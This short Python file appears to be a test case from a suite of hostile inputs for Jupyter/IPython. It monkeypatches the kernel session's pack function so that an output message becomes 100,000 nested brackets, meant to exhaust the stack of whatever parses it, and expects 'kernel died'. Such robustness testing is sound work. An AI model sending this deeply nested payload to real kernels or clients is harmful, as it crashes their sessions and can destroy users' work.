"""A message nested so deep that whoever reads it runs out of stack."""

from hostile import breaks

ATTACK = breaks(
    """
import IPython

kernel = IPython.get_ipython().kernel
kernel.session.pack = lambda thing: b"[" * 100_000 + b"]" * 100_000
kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x"})
""",
    "kernel died",
)
